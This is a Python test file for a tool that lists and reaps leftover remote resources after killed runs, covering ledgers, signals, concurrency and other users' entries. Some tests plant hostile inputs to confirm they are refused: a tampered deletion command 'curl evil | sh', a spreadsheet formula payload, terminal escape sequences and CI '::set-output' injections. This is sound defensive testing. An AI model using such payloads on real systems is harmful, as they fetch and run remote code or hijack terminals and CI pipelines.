"""`resources list` and `resources reap` find leftover resources, and delete only those that are not in use."""

from __future__ import annotations

import json
import re
import signal
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from tests.fakes import things
from tests.functional.grid import wait
from toolbox.ground.model.resources import Owner, Resource
from toolbox.ground.system import processes
from toolbox.records.runs import ledger, ledger_seal
from toolbox.records.runs.layout import RunDirectory
from toolbox.records.runs.ledger import Ledger
from toolbox.testing import Outcome, Workspace

ORCHESTRATION = f'''
"""Creates things."""
{things.MAKE}
import time
from toolbox.ground.model.errors import CheckFailed
from toolbox.orchestration import config

def prepare():
    names = config.project.get_config("things")
    for name in names:
        kill = Path("kill").read_text() if name == names[-1] and Path("kill").exists() else ""
        make(name, keep=name.startswith("kept"), kill=kill)

def test():
    Path("begun").touch()
    while Path("hold").exists(): time.sleep(0.02)
'''
BACKEND = '''
"""Cells that never run, on a remote side with things."""

import json
from datetime import UTC, datetime
from pathlib import Path
from typing import ClassVar

from pydantic import BaseModel

from toolbox.ground.model import resources
from toolbox.ground.model.errors import InfrastructureError
from toolbox.ground.model.resources import OpenResource, Owner, Resource


class Target(BaseModel):
    """One remote side."""

    keeps_attempts: ClassVar[bool] = False
    folder: str

    def open(self, context):
        """Open nothing."""

    def resources(self, name, clusters):
        """Return the things."""
        if not Path(self.folder).is_dir():
            raise InfrastructureError(f"{self.folder} does not answer")
        for file in Path(self.folder).iterdir():
            labels = json.loads(file.read_text())
            described = Resource("thing", file.name, {"file": str(file)}, 60, f"rm {file}")
            created = datetime.fromtimestamp(file.stat().st_mtime, UTC)
            expires = resources.expiry_of(labels)
            yield OpenResource(described, Owner.from_labels(labels), created, expires, is_created=True)
'''


class Team:
    """A workspace with the project `makers`, whose runs create things in the folder `remote`."""

    def __init__(self, workspace: Workspace) -> None:
        self.workspace = workspace
        self.root = workspace.directory
        workspace.write({
            "resources/thing.py": things.KIND,
            "backends/things.py": BACKEND,
            "projects/makers/orchestration.py": ORCHESTRATION,
            "command_args/makers.yaml.j2": "",
        })  # fmt: skip
        self.configure()

    def configure(self, *names: str) -> None:
        """Set the names of the things that each run creates."""
        target = {"backend": "things", "folder": str(self.root / "remote")}
        self.workspace.write({"config/makers.yaml": json.dumps({"things": names, "targets": {"there": target}})})

    def kill(self, *names: str, kill: str = "after the mark") -> Path:
        """Run the project until it kills itself while it creates the last thing, and return the run directory."""
        self.configure(*names)
        self.workspace.write({"kill": kill})
        outcome = self.workspace.run("project", "run", "makers")
        assert outcome.exit_code == -signal.SIGKILL, str(outcome)
        return self.workspace.run_directory()

    def kill_in_test(self, *names: str) -> Path:
        """Run the project, kill it in the phase `test`, and return the run directory."""
        self.configure(*names)
        (self.root / "hold").touch()
        with self.workspace.start("project", "run", "makers") as running:
            wait((self.root / "begun").exists, "the test phase")
            running.send(signal.SIGKILL)
            running.wait()
        (self.root / "hold").unlink()
        return self.workspace.run_directory()

    def elsewhere(self, *words: str, code: int = 0) -> Outcome:
        """Run a command as on another machine, which only has the files of the workspace."""
        outcome = self.workspace.run(*words, env={"HOME": str(self.root / "other-home")})
        assert outcome.exit_code == code, str(outcome)
        return outcome

    def resources(self, command: str, *flags: str, code: int = 0) -> Outcome:
        outcome = self.workspace.run("resources", command, *flags)
        assert outcome.exit_code == code, str(outcome)
        return outcome

    @property
    def things(self) -> list[str]:
        return sorted(file.name for file in (self.root / "remote").glob("*"))

    @property
    def user_ledger(self) -> Ledger:
        """The ledger for commands outside a run."""
        return ledger.of_user()

    def put(self, name: str, *, expires_in: float) -> None:
        """Create a thing of another machine, which only its labels describe."""
        owner = Owner("20260101-000000-aaaa", "makers", "runner", "ci")
        file = self.root / "remote" / name
        file.parent.mkdir(exist_ok=True)
        file.write_text(json.dumps(owner.labels(expires_in)))


@pytest.fixture
def team(workspace: Workspace, monkeypatch: pytest.MonkeyPatch) -> Iterator[Team]:
    monkeypatch.setenv("XDG_STATE_HOME", str(workspace.home / ".local" / "state"))
    yield Team(workspace)
    processes.end_marked(workspace.directory)


def test_no_remote_resources_are_not_an_error(team: Team) -> None:
    (team.root / "remote").mkdir()
    for command in ("list", "reap"):
        hint = "there are no remote resources on the ledgers of this machine: name a project to search by labels too"
        assert " ".join(team.resources(command).stdout.split()) == hint
        assert team.resources(command, "makers").stdout == "there are no remote resources\n"
    assert team.resources("list", "--format=json").json == []


def test_the_resources_of_a_killed_run_are_listed_and_reaped(team: Team) -> None:
    run = team.kill("a")
    (found,) = team.resources("list", "--format=json").json
    names = {name: found[name] for name in ("kind", "name", "run", "project", "created", "found", "directory")}
    assert names == {
        "kind": "thing",
        "name": "a",
        "run": run.name,
        "project": "makers",
        "created": True,
        "found": "ledger",
        "directory": str(run),
    }
    assert "a" in team.resources("list").stdout
    assert team.resources("reap").stdout == "deleted thing a\n"
    assert (team.things, team.resources("list", "--format=json").json) == ([], [])
    assert team.workspace.run("project", "status", str(run)).stdout.count("delete_resources") == 1


@pytest.mark.parametrize("kill", ["before the plan", "after the plan", "after the creation", "after the mark"])
@pytest.mark.parametrize("by", ["resume", "reap and resume"])
def test_nothing_is_left_of_a_run_that_is_killed_at_any_moment(team: Team, kill: str, by: str) -> None:
    run = team.kill("a", "b", kill=kill)
    if "reap" in by:
        team.resources("reap")
        assert team.things == []
    outcome = team.workspace.run("project", "resume", str(run))
    assert outcome.exit_code == 0, str(outcome)
    assert team.things == []
    assert team.resources("list", "--format=json").json == []
    if by == "resume":  # what exists is not created again
        assert (team.root / "created").read_text().split() == ["a", "b"]


def test_nothing_is_left_of_a_run_that_is_killed_between_a_deletion_and_its_record(team: Team) -> None:
    team.configure("deadly", "other")
    assert team.workspace.run("project", "run", "makers").exit_code == -signal.SIGKILL
    assert [each["name"] for each in team.resources("list", "--format=json").json][:1] == ["deadly"]
    team.resources("reap")
    assert (team.things, team.resources("list", "--format=json").json) == ([], [])


def test_a_run_that_is_being_executed_is_never_touched(team: Team) -> None:
    team.configure("a")
    (team.root / "hold").touch()
    with team.workspace.start("project", "run", "makers") as running:
        wait((team.root / "begun").exists, "the test phase")
        for flags in ((), ("--older_than=0s",), ("makers", "--older_than=0s")):
            assert team.resources("reap", *flags).stdout == "kept thing a: its run is being executed\n"
        assert "in use" in team.resources("list").stdout
        assert team.things == ["a"]
        (team.root / "hold").unlink()
        assert running.wait().exit_code == 0
    assert team.things == []


def test_a_dry_run_says_what_would_happen_and_why(team: Team) -> None:
    team.kill("a", "kept")
    team.put("fresh", expires_in=3600)
    before = team.things
    would, kept, fresh = team.resources("reap", "makers", "--dry_run").stdout.splitlines()
    assert would == "would delete thing a"
    assert kept == "kept thing kept: it was created with `keep`; --older_than deletes it"
    assert fresh.startswith("kept thing fresh: it expires in ")
    assert team.things == before
    outcomes = team.resources("reap", "--dry_run", "--format=json").json
    assert [each["outcome"] for each in outcomes] == ["would delete", "kept"]


def test_a_thing_that_only_its_labels_describe_is_reaped_after_its_time_to_live(team: Team) -> None:
    team.put("fresh", expires_in=3600)
    team.put("expired", expires_in=-1)
    found = {each["name"]: each for each in team.resources("list", "makers", "--format=json").json}
    assert {name: each["found"] for name, each in found.items()} == {"fresh": "labels", "expired": "labels"}
    assert found["fresh"]["user"] == "runner"
    assert team.resources("list", "--format=json").json == []
    team.resources("reap", "makers")
    assert team.things == ["fresh"]
    young = team.resources("reap", "makers", "--older_than=1h").stdout
    assert young == "kept thing fresh: it is not older than 1 h 0 min\n"
    team.resources("reap", "makers", "--older_than=0s")
    assert team.things == []


def test_a_thing_on_a_ledger_and_on_the_remote_side_is_one_row(team: Team) -> None:
    team.kill("a")
    (found,) = team.resources("list", "makers", "--format=json").json
    assert found["found"] == "ledger"


def test_older_than_also_limits_the_resources_of_ended_runs(team: Team) -> None:
    team.kill("a", "kept")
    assert "it is not older than 2 h" in team.resources("reap", "--older_than=2h").stdout
    assert team.things == ["a", "kept"]
    team.resources("reap", "--older_than=0s")
    assert team.things == []


def test_a_run_that_is_resumed_on_another_machine_deletes_resources_with_its_labels(team: Team) -> None:
    run = team.kill_in_test("a", "kept")
    team.put("of another run", expires_in=3600)
    team.elsewhere("project", "resume", str(run))
    assert team.things == ["kept", "of another run"]
    assert (team.root / "created").read_text().split() == ["a", "kept"]
    (row,) = json.loads(RunDirectory(run).summary.read_text())["resources"]
    assert (row["name"], row["kept"]) == ("kept", True)


HINT = "of 1 remote resource, 1 could not be deleted: find them with `./run_toolbox.py resources list PROJECT`"


def test_a_run_that_is_resumed_on_another_machine_keeps_resources_of_other_owners(team: Team) -> None:
    run = team.kill_in_test("a")
    team.put("a", expires_in=3600)
    outcome = team.elsewhere("project", "resume", str(run), code=3)
    assert HINT in outcome.stdout
    assert team.things == ["a"]


def test_a_target_that_does_not_answer_on_another_machine_is_reported(team: Team) -> None:
    run = team.kill_in_test("a")
    (team.root / "remote").rename(team.root / "away")
    outcome = team.elsewhere("project", "resume", str(run), code=3)
    assert HINT in outcome.stdout
    assert "warning: the target `there` could not be searched: " in outcome.stderr


def test_an_entry_of_another_user_is_never_executed(team: Team) -> None:
    (team.root / "remote").mkdir()
    file = team.root / "remote" / "victim"
    file.write_text(json.dumps(team.user_ledger.owner.labels()))
    team.user_ledger.plan(things.thing(file))
    text = team.user_ledger.file.read_text()
    team.user_ledger.file.write_text(text.replace('"rm ', '"curl evil | sh; rm '))
    for flags in (["--dry_run"], []):
        reaped = team.resources("reap", "--older_than=0s", *flags, code=3)
        assert "could not delete thing victim: its entry was written by another user" in reaped.stdout
    assert "curl evil" not in reaped.stdout + team.resources("list", "--format=json").stdout
    assert team.things == ["victim"]


@pytest.mark.parametrize("format_", ["text", "json", "csv"])
def test_a_ledger_does_not_control_the_terminal_or_the_ci_system(team: Team, format_: str) -> None:
    hostile = "=cmd|' /c calc'!A0\x1b[2J\x9b31m\u202e\n::set-output name=x::y"
    team.user_ledger.plan(Resource("thing", hostile, {"file": "/nowhere/x"}, 0, hostile))
    for flags in (["list"], ["reap", "--dry_run"]):
        outcome = team.workspace.run("resources", *flags, f"--format={format_}", env={"GITHUB_ACTIONS": "true"})
        assert not re.search(r"[\x1b\x9b\u202e]|^::", outcome.stdout + outcome.stderr, re.MULTILINE), str(outcome)


def test_the_resource_of_a_command_is_reaped_after_its_time_to_live(team: Team) -> None:
    (team.root / "remote").mkdir()
    for name in ("young", "old"):
        file = team.root / "remote" / name
        file.write_text(json.dumps(team.user_ledger.owner.labels()))
        team.user_ledger.plan(things.thing(file))
    text = team.user_ledger.file.read_text()
    first, second = text.splitlines()
    entry = json.loads(second)
    made = datetime.fromisoformat(entry["time"])
    entry |= {"time": (made - timedelta(days=1)).astimezone(UTC).isoformat(timespec="microseconds")}
    del entry["seal"]
    resealed = ledger_seal.sealed(json.dumps(entry).encode()).decode()
    team.user_ledger.file.write_text(f"{first}\n{resealed}\n")
    assert team.resources("reap").stdout.splitlines()[1] == "deleted thing old"
    assert team.things == ["young"]
    team.resources("reap", "--older_than=0s")
    assert (team.things, team.user_ledger.file.read_bytes()) == ([], b"")


def test_a_deletion_that_fails_says_what_to_do_by_hand(team: Team) -> None:
    team.kill("a", "stuck")
    file = team.root / "remote" / "stuck"
    outcome = team.resources("reap", code=3)
    expected = ["deleted thing a", f"could not delete thing stuck: {file} is stuck; by hand: rm {file}"]
    assert outcome.stdout.splitlines() == expected
    (found,) = team.resources("list", "--format=json").json
    assert found["failure"] == f"{file} is stuck"
    file.unlink()
    assert team.resources("reap").stdout == "deleted thing stuck\n"


def test_a_resumed_run_creates_reaped_resources_again(team: Team) -> None:
    run = team.kill("a")
    team.resources("reap")
    assert team.workspace.run("project", "resume", str(run)).exit_code == 0
    assert (team.root / "created").read_text() == "a\na\n"
    assert team.things == []


def test_two_processes_that_reap_at_the_same_time_delete_each_resource_once(team: Team) -> None:
    team.kill(*(f"t{number}" for number in range(5)), "slow")
    with team.workspace.start("resources", "reap") as first, team.workspace.start("resources", "reap") as second:
        outcomes = [first.wait(), second.wait()]
    assert [outcome.exit_code for outcome in outcomes] == [0, 0], outcomes
    assert team.things == ["slow.tried"]
    assert team.resources("list", "--format=json").json == []


def test_a_signal_ends_a_long_deletion(team: Team) -> None:
    team.kill("endless")
    with team.workspace.start("resources", "reap") as reaping:
        wait(lambda: "endless.tried" in team.things, "the deletion")
        reaping.send(signal.SIGINT)
        outcome = reaping.wait(20)
    assert outcome.exit_code == 130, str(outcome)
    assert [row["name"] for row in team.resources("list", "--format=json").json] == ["endless"]


def test_the_third_signal_ends_a_run_during_its_deletions(team: Team) -> None:
    team.configure("endless")
    with team.workspace.start("project", "run", "makers") as running:
        wait(lambda: "endless.tried" in team.things, "the deletion")
        for left in (2, 1):
            running.send(signal.SIGINT)
            running.wait_for(f"send {left} more to stop the cleanup")
        running.send(signal.SIGINT)
        outcome = running.wait(20)
    assert outcome.exit_code == 130, str(outcome)
    assert "1 remote resource may still exist, because a signal ended the cleanup: `" in outcome.stdout
    assert [row["name"] for row in team.resources("list", "--format=json").json] == ["endless"]


def test_a_damaged_ledger_is_reported_with_its_line(team: Team) -> None:
    run = team.kill("a")
    file = RunDirectory(run).ledger
    file.write_text(f"{file.read_text()}nonsense\n")
    outcome = team.resources("reap", code=3)
    assert f"{file}:3: Invalid JSON" in outcome.stderr
    assert (outcome.stdout, team.things) == ("deleted thing a\n", [])


def test_a_run_that_cannot_be_locked_is_an_error(team: Team) -> None:
    run = team.kill("a")
    RunDirectory(run).journal.unlink()
    RunDirectory(run).journal.mkdir()
    outcome = team.resources("reap", code=3)
    assert f"could not delete thing a: {run} cannot be read or written: " in outcome.stdout
    assert team.things == ["a"]


def test_the_ledger_of_another_user_is_not_used(team: Team) -> None:
    run = team.kill("a")
    RunDirectory(run).ledger.chmod(0o666)
    outcome = team.resources("reap", code=3)
    assert "other users can write it" in outcome.stderr
    assert team.things == ["a"]


def test_a_run_whose_directory_was_removed_is_reported(team: Team) -> None:
    run = team.kill("a")
    run.rename(run.with_name("elsewhere"))
    outcome = team.resources("list")
    assert f"{run} no longer exists, but had remote resources: remove {ledger.pointer(run)}" in outcome.stderr


def test_a_target_that_does_not_answer_is_reported(team: Team) -> None:
    outcome = team.resources("reap", "makers", code=3)
    assert "the target `there` could not be searched: " in outcome.stderr
    assert "does not answer" in outcome.stderr


def test_hostile_text_on_a_ledger_is_harmless(team: Team) -> None:
    run = team.kill("a")
    hostile = "\x1b[2J::set-output name=x::y\n::error::z"
    file = RunDirectory(run).ledger
    lines = [json.loads(line) for line in file.read_text().splitlines()]
    lines[0] |= {"name": f"a{hostile}", "command": f"rm {hostile}", "deletion": {"file": str(team.root / "x")}}
    (team.root / "x").mkdir()
    file.write_text("".join(f"{json.dumps(line)}\n" for line in lines[:1]))
    status = team.workspace.run("project", "status", str(run))
    for outcome in (team.resources("list"), status, team.resources("reap", code=3)):
        assert "\x1b[2J" not in str(outcome)
        assert not any(line.startswith("::") for line in outcome.stdout.splitlines())


@pytest.mark.parametrize("text", ["-2h", "nan", "99999999d"])
def test_a_wrong_duration_is_refused(team: Team, text: str) -> None:
    assert "--older_than must be a" in team.resources("reap", f"--older_than={text}", code=2).stderr


def test_presets_need_a_project(team: Team) -> None:
    assert "need a project" in team.resources("list", "--presets=x", code=2).stderr


def test_an_unknown_project_is_wrong_usage(team: Team) -> None:
    assert "maker" in team.resources("list", "maker", code=2).stderr
